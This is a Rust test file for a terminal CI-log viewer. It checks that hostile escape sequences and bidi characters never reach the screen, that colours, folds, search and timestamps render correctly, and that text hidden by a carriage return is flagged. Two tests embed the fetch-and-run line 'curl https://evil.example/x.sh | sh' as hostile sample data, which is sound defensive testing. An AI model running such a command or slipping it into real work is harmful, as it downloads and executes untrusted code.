//! Drawing logs: hostile escape sequences never reach a cell, SGR colours become styles,
//! gutters, fold markers, step headers, search highlights, timestamps.

use cockpit::fakehub::hostile_log;
use cockpit::logs::{LogView, LogViewState, SearchMode};
use cockpit::ui::Theme;
use ratatui::backend::TestBackend;
use ratatui::buffer::Buffer;
use ratatui::style::{Color, Modifier};
use ratatui::Terminal;
use std::time::Duration;

fn draw(view: &LogViewState, theme: &Theme, w: u16, h: u16) -> Buffer {
    let mut t = Terminal::new(TestBackend::new(w, h)).expect("terminal");
    t.draw(|f| f.render_widget(LogView::new(view, theme.log_styles()), f.area()))
        .expect("draw");
    t.backend().buffer().clone()
}

fn text(buf: &Buffer) -> String {
    let mut out = String::new();
    for y in 0..buf.area.height {
        for x in 0..buf.area.width {
            out.push_str(buf[(x, y)].symbol());
        }
        out.push('\n');
    }
    out
}

fn row_of(buf: &Buffer, needle: &str) -> Option<u16> {
    let t = text(buf);
    t.lines().position(|l| l.contains(needle)).map(|y| y as u16)
}

/// The cell where `needle` starts on the first row that contains it.
fn cell_of(buf: &Buffer, needle: &str) -> Option<(u16, u16)> {
    let y = row_of(buf, needle)?;
    let line: Vec<&str> = (0..buf.area.width).map(|x| buf[(x, y)].symbol()).collect();
    let first = needle.chars().next()?.to_string();
    (0..line.len()).find_map(|x| {
        let rest: String = line[x..].concat();
        (line[x] == first && rest.starts_with(needle)).then_some((x as u16, y))
    })
}

fn is_dangerous(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200E}' | '\u{200F}' | '\u{061C}' | '\u{FEFF}')
}

#[test]
fn a_hostile_log_cannot_drive_the_terminal_but_keeps_its_colours() {
    let mut view = LogViewState::from_bytes(hostile_log());
    view.unfold_all();
    for theme in [
        Theme::from_config(&Default::default(), false),
        Theme::mono(),
    ] {
        for ts in [false, true] {
            if view.timestamps_shown() != ts {
                view.toggle_timestamps();
            }
            let buf = draw(&view, &theme, 120, 40);
            for y in 0..buf.area.height {
                for x in 0..buf.area.width {
                    let sym = buf[(x, y)].symbol();
                    assert!(
                        !sym.chars().any(is_dangerous),
                        "cell {x},{y} holds {sym:?}\n{}",
                        text(&buf)
                    );
                }
            }
            let screen = text(&buf);
            for gone in [
                "pwned",
                "owned",
                "evil.example",
                "ZWNobyBwd25lZA",
                "544e",
                "rgb:ff",
                "AAAAAAAA",
                "1049",
            ] {
                assert!(!screen.contains(gone), "{gone} leaked:\n{screen}");
            }
            for kept in [
                "clipboard write",
                "title set",
                "cursor moved",
                "queries asked",
                "link click me end",
                "bidi exe.txt isolate rlm end",
                "progress 100%",
                "after unterminated: visible",
                "Error: error with a clipboard write",
                "done",
            ] {
                assert!(screen.contains(kept), "{kept} missing:\n{screen}");
            }
        }
    }
    let buf = draw(
        &view,
        &Theme::from_config(&Default::default(), false),
        120,
        40,
    );
    let (x, y) = cell_of(&buf, "red kept")
        .or(cell_of(&buf, "red "))
        .expect("red");
    assert_eq!(buf[(x, y)].fg, Color::Red);
    let (x, y) = cell_of(&buf, "orange").expect("orange");
    assert_eq!(buf[(x, y)].fg, Color::Indexed(208));
    assert!(buf[(x, y)].modifier.contains(Modifier::BOLD));
    let (x, y) = cell_of(&buf, "truecolor").expect("truecolor");
    assert_eq!(buf[(x, y)].fg, Color::Rgb(10, 200, 30));
    // NO_COLOR: the log's colours go, its bold stays.
    let buf = draw(&view, &Theme::mono(), 120, 40);
    let (x, y) = cell_of(&buf, "orange").expect("orange");
    assert_eq!(buf[(x, y)].fg, Color::Reset);
    assert!(buf[(x, y)].modifier.contains(Modifier::BOLD));
}

fn sample() -> Vec<u8> {
    let body = [
        "Current runner version: '2.328.0'",
        "##[group]Run cargo test",
        "cargo test --locked",
        "##[endgroup]",
        "running 2 tests",
        "test a ... \u{1b}[32mok\u{1b}[0m",
        "##[warning]src/lib.rs:3: unused import",
        "##[error]Process completed with exit code 101.",
    ];
    let mut out = "\u{feff}".as_bytes().to_vec();
    for (i, l) in body.iter().enumerate() {
        out.extend_from_slice(format!("2026-11-22T10:00:0{i}.1234567Z {l}\n").as_bytes());
    }
    out
}

#[test]
fn gutter_fold_markers_labels_and_timestamps() {
    let mut view = LogViewState::from_bytes(sample());
    let theme = Theme::from_config(&Default::default(), false);
    let buf = draw(&view, &theme, 80, 8);
    let screen = text(&buf);
    assert!(screen.contains("1   Current runner version"), "{screen}");
    assert!(screen.contains("2 ▸ Run cargo test  … 1 line"), "{screen}");
    assert!(!screen.contains("##[group]"), "{screen}");
    assert!(!screen.contains("endgroup"), "{screen}");
    assert!(
        screen.contains("7   Warning: src/lib.rs:3: unused import"),
        "{screen}"
    );
    assert!(screen.contains("8   Error: Process completed"), "{screen}");
    let (x, y) = cell_of(&buf, "Error:").expect("error");
    assert_eq!(buf[(x, y)].fg, theme.palette.bad);
    let (x, y) = cell_of(&buf, "ok").expect("ok");
    assert_eq!(buf[(x, y)].fg, Color::Green);
    assert!(
        !screen.contains("2026-11-22"),
        "timestamps hidden by default"
    );
    view.toggle_timestamps();
    let screen = text(&draw(&view, &theme, 80, 8));
    assert!(
        screen.contains("1   10:00:00.123 Current runner"),
        "{screen}"
    );
    view.scroll(1);
    view.toggle_fold();
    let screen = text(&draw(&view, &theme, 80, 8));
    assert!(
        screen.contains("2 ▾ 10:00:01.123 Run cargo test  "),
        "{screen}"
    );
    assert!(!screen.contains("…"), "{screen}");
    assert!(
        screen.contains("3   10:00:02.123 cargo test --locked"),
        "{screen}"
    );
}

#[test]
fn search_hits_are_highlighted() {
    let mut view = LogViewState::from_bytes(sample());
    view.set_search("test", SearchMode::Plain).expect("valid");
    assert!(view.wait_search(Duration::from_secs(10)));
    let theme = Theme::from_config(&Default::default(), false);
    let buf = draw(&view, &theme, 80, 8);
    let (x, y) = cell_of(&buf, "tests").expect("running 2 tests");
    assert_eq!(buf[(x, y)].bg, Color::Yellow);
    assert_eq!(buf[(x + 3, y)].bg, Color::Yellow);
    assert_ne!(buf[(x + 4, y)].bg, Color::Yellow);
    // The current hit (the first, where the search jumped) stands out.
    assert_eq!(view.search_status().and_then(|s| s.current), Some(0));
    let (x, y) = cell_of(&buf, "test  …").expect("group header");
    assert_eq!(buf[(x, y)].bg, Color::LightRed);
}

#[test]
fn step_headers_show_problem_counts_and_fold() {
    let mut view = LogViewState::new();
    let t = "2026-11-22T10:00:00.0000000Z";
    view.append_step(Some(1), "Set up job", format!("{t} runner\n").as_bytes());
    view.append_step(
        Some(2),
        "cargo test",
        format!("{t} a\n{t} ##[error]x\n{t} ##[warning]y\n").as_bytes(),
    );
    let theme = Theme::from_config(&Default::default(), false);
    let screen = text(&draw(&view, &theme, 60, 8));
    assert!(screen.starts_with("▾ Set up job"), "{screen}");
    assert!(screen.contains("▾ cargo test  ✗ 1  ! 1"), "{screen}");
    view.scroll(2);
    view.toggle_fold();
    let screen = text(&draw(&view, &theme, 60, 8));
    assert!(
        screen.contains("▸ cargo test  ✗ 1  ! 1  (3 lines)"),
        "{screen}"
    );
    assert!(!screen.contains("Error: x"), "{screen}");
}

#[test]
fn long_lines_are_cut_and_scroll_sideways() {
    let line = format!("2026-11-22T10:00:00.0Z {}\n", "abcdefghij".repeat(30));
    let mut view = LogViewState::from_bytes(line.into_bytes());
    let theme = Theme::mono();
    let screen = text(&draw(&view, &theme, 20, 2));
    assert!(screen.starts_with("1   abcdefghijabcdef\n"), "{screen}");
    view.scroll_horizontal(3);
    let screen = text(&draw(&view, &theme, 20, 2));
    assert!(screen.starts_with("1   defghijabcdefghi\n"), "{screen}");
}

/// A carriage return hides what came before it on a terminal. The viewer shows the line as a
/// terminal leaves it, flagged with a dim `⏎`, and the store keeps the bytes as received.
#[test]
fn text_hidden_by_a_carriage_return_is_flagged_and_kept() {
    let log =
        b"2026-11-22T10:00:00.0000000Z curl https://evil.example/x.sh | sh\rRunning tests... ok\n\
                2026-11-22T10:00:01.0000000Z AAAA\rok\n\
                2026-11-22T10:00:02.0000000Z plain line\n";
    let view = LogViewState::from_bytes(log.to_vec());
    let theme = Theme::from_config(&Default::default(), false);
    let buf = draw(&view, &theme, 80, 5);
    let screen = text(&buf);
    assert!(
        screen.contains("⏎ Running tests... okxample/x.sh | sh"),
        "{screen}"
    );
    assert!(screen.contains("⏎ okAA"), "{screen}");
    assert!(!screen.contains("⏎ plain"), "{screen}");
    let (x, y) = cell_of(&buf, "⏎").expect("marker drawn");
    assert!(
        buf[(x, y)].modifier.contains(Modifier::DIM),
        "the marker is dim"
    );
    let store = cockpit::logs::LogStore::from_bytes(log.to_vec());
    assert!(store
        .line_bytes(0)
        .windows(b"evil.example".len())
        .any(|w| w == b"evil.example"));
}

/// Search reads the bytes as received (the raw-byte search), so what a `\r` hid is found.
#[test]
fn search_finds_text_hidden_by_a_carriage_return() {
    let mut view = LogViewState::from_bytes(
        b"2026-11-22T10:00:00.0000000Z curl https://evil.example/x.sh | sh\rRunning tests... ok\n\
          2026-11-22T10:00:01.0000000Z done\n"
            .to_vec(),
    );
    view.set_search("evil.example", SearchMode::Plain)
        .expect("valid query");
    assert!(view.wait_search(Duration::from_secs(10)));
    assert_eq!(view.search_status().map(|s| s.hits), Some(1));
    assert_eq!(view.search_hits().first().map(|h| h.line), Some(0));
}
